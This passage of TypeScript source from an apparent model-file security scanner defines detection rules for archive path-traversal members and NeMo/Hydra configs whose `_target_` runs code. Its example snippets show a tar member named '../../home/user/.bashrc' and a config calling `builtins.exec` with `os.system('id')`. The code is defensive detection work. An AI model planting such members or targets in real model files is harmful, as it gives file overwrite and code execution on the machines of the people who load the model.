  docs: {
    summary: "A member of this archive is named with `..` or an absolute path, or is a link pointing outside, so extracting the archive writes outside its folder.",
    description:
      "Model bundles are archives that loaders extract: NeMo restores a `.nemo` tarball, onnx.hub extracts model " +
      "tarballs (CVE-2024-5187), `keras.utils.get_file(extract=True)` extracts downloads (CVE-2025-12060), and " +
      "checkpoints ship as `.tar.gz`. Python's `tarfile` without an extraction filter (the default before Python 3.14) " +
      "joins each member's name to the folder as it is, creates symbolic and hard links to any target, and then writes " +
      "later members through those links. Zip extractors other than Python's `zipfile` do the same with `..` names " +
      "(Zip Slip). An archive written by a model library never holds such names: they exist to overwrite files such as " +
      "`~/.bashrc`, a `.pth` file in site-packages or a cron entry, which runs code later. High rather than critical: " +
      "whether the write happens depends on the extractor, and a filtered extraction refuses the archive.",
    securityImplications:
      "Arbitrary file write (and, through links, read) with the permissions of the process that extracts the model, " +
      "which becomes code execution once a written file is run or imported.",
    howToFix:
      "Do not extract the archive. Extract model bundles with a filter that refuses escaping members " +
      "(`tarfile.extractall(path, filter=\"data\")`, Python 3.12+) and upgrade the library that extracts them.",
    fixHint: "Do not extract this archive: a member or link leaves the extraction folder.",
    vulnerableExample: [
      'info = tarfile.TarInfo("../../home/user/.bashrc")   # or a symlink member pointing at /etc',
      'tar.addfile(info, io.BytesIO(payload))              # model.nemo',
    ].join("\n"),
  },
}, ARCHIVE_FAMILY);

const CONFIG_FAMILY: RuleFamily = {
  tag: "config",
  scope:
    "YAML and JSON configurations inside model archives (a `.nemo` tarball's `model_config.yaml`, any `.yaml`, " +
    "`.yml` or `hparams` file in a tar or zip), JSON in a safetensors file's `__metadata__`, and a NeMo 2.0 " +
    "checkpoint's `context/io.json` and `context/model.yaml`, in an archive or in the checkpoint folder. Every fiddle " +
    "`pyref` (module and name: what `load_context` imports and builds) and every mapping's " +
    "`_target_` (Hydra and NeMo), and the `path` of Hydra's `get_method`/`get_class`/`get_object`, is judged as the " +
    "dotted name the loader imports, against the denylist the pickle rules use; `${...}` interpolations that name " +
    "another key of the config are followed, and YAML anchors are expanded with a bound on aliases. Targets from " +
    "model libraries (`nemo.collections...`, `torch.nn...`) are not reported.",
  references: [
    { title: "Hydra: Instantiating objects with Hydra", url: "https://hydra.cc/docs/advanced/instantiate_objects/overview/" },
    { title: "Hydra 1.4: instantiate target whitelist", url: "https://hydra.cc/docs/upgrades/1.3_to_1.4/instantiate_target_whitelist/" },
    { title: "CVE-2025-23304 (NeMo: code injection through a .nemo file's metadata)", url: "https://nvd.nist.gov/vuln/detail/CVE-2025-23304" },
    { title: "CWE-94: Improper Control of Generation of Code", url: "https://cwe.mitre.org/data/definitions/94.html" },
  ],
  safeExample: [
    "# Resolve only the targets your code expects (Hydra 1.4+)",
    'model = instantiate(cfg.model, _target_whitelist_="nemo.collections.*")',
  ].join("\n"),
  faq: [
    {
      question: "Does Pathfinder instantiate the config?",
      answer: "No. It parses the YAML or JSON as data (no tags are constructed) and reads the `_target_` strings; nothing is imported.",
    },
  ],
};

export const CONFIG_ARTIFACT_TARGET = artifactRule({
  id: "CONFIG-ARTIFACT-001",
  name: "Model Config Instantiates a Dangerous Target",
  severity: "critical",
  confidence: "high",
  precision: "very-high",
  tags: ["code-execution", "hydra"],
  moreCwe: ["CWE-94"],
  similar: ["KERAS-ARTIFACT-002", "PICKLE-ARTIFACT-001"],
  docs: {
    summary: "A configuration stored in the model file names a `_target_` such as `builtins.exec`, `os.system` or `subprocess.Popen`, which the loader imports and calls.",
    description:
      "NeMo restores a `.nemo` model by passing the `model_config.yaml` inside it to `hydra.utils.instantiate`, and " +
      "other libraries do the same with configs kept in checkpoints or in safetensors metadata. `instantiate` imports " +
      "the dotted path of every `_target_` and calls it with the mapping's other keys (or `_args_`) as arguments, so a " +
      "target such as `builtins.exec` with the code in `_args_` runs on load (CVE-2025-23304 in NeMo, and the same " +
      "class in other libraries found in 2025). Real model configs target the library's own classes.",
    securityImplications: "Arbitrary code execution with the privileges of whoever loads the model.",
    howToFix:
      "Do not load the model. Upgrade the library that loads it, and pass an allowlist of targets to `instantiate` " +
      "(`_target_whitelist_`, Hydra 1.4) wherever a config comes from a file.",
    fixHint: "Do not load this model: its config instantiates a target that runs code.",
    vulnerableExample: [
      "# model_config.yaml inside model.nemo",
      "encoder:",
      "  _target_: builtins.exec",
      "  _args_: [\"import os; os.system('id')\"]",
    ].join("\n"),
  },
}, CONFIG_FAMILY);

export const ARTIFACT_RULES: RuleMeta[] = [
  PICKLE_ARTIFACT_DANGEROUS_CALL,
  PICKLE_ARTIFACT_DANGEROUS_IMPORT,
  PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
  PICKLE_ARTIFACT_MALFORMED,
  PICKLE_ARTIFACT_CONTAINER_TRICK,
  PICKLE_ARTIFACT_UNINSPECTABLE,
  PICKLE_ARTIFACT_UNKNOWN_CALL,
  KERAS_ARTIFACT_CODE,
  KERAS_ARTIFACT_IMPORT,
  KERAS_ARTIFACT_GADGET,
  GGUF_ARTIFACT_TEMPLATE,
  GGUF_ARTIFACT_MALFORMED,
  ONNX_ARTIFACT_EXTERNAL_PATH,
  ARCHIVE_ARTIFACT_PATH_ESCAPE,
  CONFIG_ARTIFACT_TARGET,
];

const RULE_BY_KIND: Record<Exclude<PickleIssueKind, "nested-pickle">, RuleMeta> = {
  "dangerous-call": PICKLE_ARTIFACT_DANGEROUS_CALL,
  "dangerous-import": PICKLE_ARTIFACT_DANGEROUS_IMPORT,
  "dynamic-global": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  "extension-code": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  "module-mutation": PICKLE_ARTIFACT_DYNAMIC_GLOBAL,
  "unknown-global": PICKLE_ARTIFACT_UNKNOWN_GLOBAL,
  "unknown-call": PICKLE_ARTIFACT_UNKNOWN_CALL,
  malformed: PICKLE_ARTIFACT_MALFORMED,
  "container-mismatch": PICKLE_ARTIFACT_CONTAINER_TRICK,
  uninspectable: PICKLE_ARTIFACT_UNINSPECTABLE,
  "keras-code": KERAS_ARTIFACT_CODE,
  "keras-import": KERAS_ARTIFACT_IMPORT,
  "keras-gadget": KERAS_ARTIFACT_GADGET,
  "gguf-template": GGUF_ARTIFACT_TEMPLATE,
  "gguf-malformed": GGUF_ARTIFACT_MALFORMED,
  "onnx-external-path": ONNX_ARTIFACT_EXTERNAL_PATH,
  "archive-path-escape": ARCHIVE_ARTIFACT_PATH_ESCAPE,
  "config-target": CONFIG_ARTIFACT_TARGET,
};

/** The rule an analyser issue belongs to. A nested-pickle summary follows its severity. */
export function ruleForIssue(issue: Pick<PickleIssue, "kind" | "severity">): RuleMeta {
  if (issue.kind !== "nested-pickle") return RULE_BY_KIND[issue.kind];
  if (issue.severity === "critical") return PICKLE_ARTIFACT_DANGEROUS_CALL;
  if (issue.severity === "high") return PICKLE_ARTIFACT_DANGEROUS_IMPORT;
  return PICKLE_ARTIFACT_UNKNOWN_GLOBAL;
}
